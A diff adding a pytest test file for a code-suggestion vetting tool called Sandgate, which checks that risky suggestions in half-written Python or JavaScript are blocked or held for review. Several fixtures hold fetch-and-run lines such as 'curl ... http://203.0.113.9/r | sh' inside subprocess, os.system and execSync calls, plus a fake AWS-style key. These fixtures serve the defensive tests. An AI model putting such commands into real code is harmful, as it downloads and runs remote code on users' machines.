@@ -1,0 +1,176 @@
+"""A candidate is always vetted, or never shown: the region ladder, language units, the
+`languages.unvetted` policy key, and `sandgate vet --into` agreeing with the server."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from sandgate.findings import Origin, Verdict
+from sandgate.languages import language_for
+from sandgate.languages.python import PYTHON
+from sandgate.pipeline import Vetter
+from sandgate.policy.load import load_effective
+from sandgate.regions import CannotVet, find_region
+from sandgate.suggestion import Suggestion, place
+
+from .conftest import STATIC_POLICY, static_policy
+from .test_pipeline_and_cli import sandgate
+
+RISKY = "subprocess.call(f\"systemctl restart {s} && curl -s http://203.0.113.9/r | sh\", shell=True)"
+BELOW = "import subprocess\n\n\ndef restart(s):\n    \n\n\ndef later(x):\n    return x +\n"
+
+
+def region(document: str, line: int, character: int, text: str):
+    suggestion = Suggestion(text, document=document, line=line, character=character)
+    try:
+        compile(place(suggestion).code, "doc", "exec")
+    except SyntaxError as error:
+        return find_region(PYTHON.syntax, suggestion, error)
+    raise AssertionError("the placed document compiles: no region needed")
+
+
+def test_broken_statements_elsewhere_are_left_out_line_numbers_kept():
+    found = region(BELOW, 4, 4, RISKY)
+    assert (found.kind, found.variant) == ("without-broken", "as-is")
+    assert found.note == "vetted without lines 8–9, which do not compile yet"
+    assert found.code.split("\n")[4] == "    " + RISKY and found.code.count("\n") == place(found.suggestion).code.count("\n")
+    assert found.shown == RISKY
+
+
+def test_the_enclosing_definition_with_its_broken_rest_cut_away():
+    found = region("import subprocess\n\n\ndef restart(s):\n    \n    y = foo(\n", 4, 4, "subprocess.call(s, shell=True)")
+    assert found.kind == "definition"
+    assert found.note == "vetted in `restart()` without line 6: line 6 does not compile yet ('(' was never closed)"
+
+
+def test_a_broken_line_above_inside_the_definition_is_left_out():
+    found = region("import subprocess\n\n\ndef restart(s):\n    y = foo(\n    \n", 5, 4, "return subprocess.call(s, shell=True)")
+    assert found.kind == "definition" and "without line 5" in found.note
+
+
+def test_the_suggestion_alone_dedented():
+    found = region("if x ==:\n    \n", 1, 4, "y = 1\n    z = y + 1")
+    assert found.kind == "alone" and found.note == ("vetted as the suggestion alone: line 1 does not compile yet "
+                                                    "(invalid syntax)")
+    assert found.code == "\ny = 1\nz = y + 1"
+
+
+def test_a_cut_call_is_vetted_completed_and_shown_as_written():
+    found = region("import os\n\n\ndef f():\n    \n", 4, 4, 'os.system("curl -s http://203.0.113.9/r | s')
+    assert found.variant == "completed" and found.note.startswith('vetted completed with `")`')
+    assert found.suggestion.text.endswith('s")') and found.shown.endswith("| s")
+
+
+def test_a_cut_operator_leaves_only_the_vetted_part_to_show():
+    found = region("def f():\n    \n", 1, 4, "x = 1\n    y = x +")
+    assert found.variant == "truncated" and found.shown == "x = 1"
+
+
+def test_nothing_that_compiles():
+    found = region("def f(x:\n    \n", 1, 4, "return x")
+    assert isinstance(found, CannotVet)
+    assert found.reason.startswith("could not be vetted: no part of the code around the suggestion compiles (line 1")
+
+
+def test_language_units():
+    assert language_for("python", "nb.ipynb") is PYTHON
+    assert language_for(None, "a.pyi") is PYTHON and language_for("plaintext", "a.py") is PYTHON
+    assert language_for("javascript", "a.py") is None and language_for(None, "run.sh") is None
+    assert language_for(None, "README.md") is None
+
+
+@pytest.fixture
+def vetter(static_workspace):
+    return Vetter(static_policy(static_workspace))
+
+
+def test_vet_maps_region_findings_to_document_lines(vetter):
+    result = vetter.vet(Suggestion(RISKY, document=BELOW, line=4, character=4, path="svc.py"))
+    (b602,) = [f for f in result.findings if f.rule == "B602"]
+    assert b602.line == 5 and b602.origin is Origin.SUGGESTION
+    assert result.verdict is Verdict.BLOCK and result.vetted.startswith("vetted without lines 8–9")
+    benign = vetter.vet(Suggestion("return s.strip()", document=BELOW, line=4, character=4, path="svc.py"))
+    assert benign.verdict is Verdict.ALLOW and benign.suggestion.text == "return s.strip()"
+
+
+def test_vet_shows_only_the_vetted_part_of_a_cut_candidate(vetter):
+    result = vetter.vet(Suggestion("total = a + b\n    return total *", document="def f(a, b):\n    ", line=1,
+                                   character=4, path="f.py"))
+    assert result.verdict is Verdict.ALLOW and result.suggestion.text == "total = a + b"
+    assert result.content_sha256 == Suggestion("total = a + b").sha256
+
+
+def test_a_vet_that_fails_is_held_with_the_reason(vetter, monkeypatch):
+    monkeypatch.setattr(Vetter, "static_findings", lambda *a, **k: 1 / 0)
+    result = vetter.vet(Suggestion("x = 1\n"))
+    assert result.verdict is Verdict.REVIEW and result.reasons[0].rule_id == "vet-failed"
+    assert result.vetted == "could not be vetted: ZeroDivisionError: division by zero"
+
+
+def test_a_lone_surrogate_in_the_document_is_held_not_raised(vetter):
+    result = vetter.vet(Suggestion("return a + b", document="def add(a, b):\n    s = '\ud800'\n    ", line=2,
+                                   character=4))
+    assert result.verdict is Verdict.REVIEW and "could not be vetted" in result.vetted
+
+
+@pytest.mark.parametrize("handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)])
+def test_languages_without_a_unit(static_workspace, handling, verdict):
+    own = static_workspace / "own.toml"
+    own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
+    vetter = Vetter(load_effective(static_workspace, explicit=own))
+    result = vetter.vet(Suggestion("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')", path="app.js",
+                                   language="javascript"))
+    assert result.verdict is verdict and "javascript is not vetted" in result.vetted
+    if handling == "allow":
+        assert [f.rule for f in result.findings] == ["not-vetted"]
+    secret = vetter.vet(Suggestion('const key = "AKIAZ3MSJV7WQLPX4TQB";', path="app.js", language="javascript"))
+    assert secret.verdict is Verdict.BLOCK
+
+
+def test_a_managed_policy_can_forbid_showing_unvetted_languages(monkeypatch, tmp_path, workspace):
+    managed = tmp_path / "managed.toml"
+    managed.write_text('version = 1\n[languages]\nunvetted = "review"\n')
+    monkeypatch.setenv("SANDGATE_MANAGED_POLICY", str(managed))
+    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "allow"\n')
+    loaded = load_effective(workspace)
+    assert loaded.policy.languages.unvetted == "review"
+    (refusal,) = loaded.refusals
+    assert refusal.key == "languages.unvetted" and '"allow" is looser than the managed policy allows' in refusal.message
+    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "skip"\n')
+    assert load_effective(workspace).policy.languages.unvetted == "skip"  # tighter stands
+
+
+def test_every_preset_skips_unvetted_languages(workspace):
+    for preset in ("strict", "balanced", "permissive"):
+        assert load_effective(workspace, preset=preset).policy.languages.unvetted == "skip"
+
+
+def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_workspace):
+    (static_workspace / "doc.py").write_text("import subprocess\n\n\ndef add(a, b):\n")
+    (static_workspace / "s.py").write_text("    return subprocess.check_output('echo ' + a, shell=True)")
+    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "--into", "doc.py", "--at", "5:1", "s.py",
+                    cwd=static_workspace)
+    result = json.loads(done.stdout)["results"][0]
+    assert result["decision"] == "block" and result["vetted"] is None
+    past = sandgate("vet", "--policy", STATIC_POLICY, "--into", "doc.py", "--at", "7:1", "s.py", cwd=static_workspace)
+    assert past.returncode == 2 and "past the end of doc.py (5 lines)" in past.stderr
+
+
+def test_cli_vets_a_half_typed_document_by_region(static_workspace):
+    (static_workspace / "svc.py").write_text(BELOW)
+    (static_workspace / "s.py").write_text(RISKY)
+    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "--into", "svc.py", "--at", "5:5", "s.py",
+                    cwd=static_workspace)
+    result = json.loads(done.stdout)["results"][0]
+    assert done.returncode == 1 and result["decision"] == "block"
+    assert result["vetted"] == "vetted without lines 8–9, which do not compile yet"
+
+
+def test_cli_does_not_vet_other_languages_as_python(static_workspace):
+    (static_workspace / "app.js").write_text("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')\n")
+    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "app.js", cwd=static_workspace)
+    result = json.loads(done.stdout)["results"][0]
+    assert done.returncode == 1 and result["decision"] == "review" and "javascript" not in result["vetted"]
+    assert result["vetted"] == "js is not vetted: Sandgate has no vetting pipeline for it"
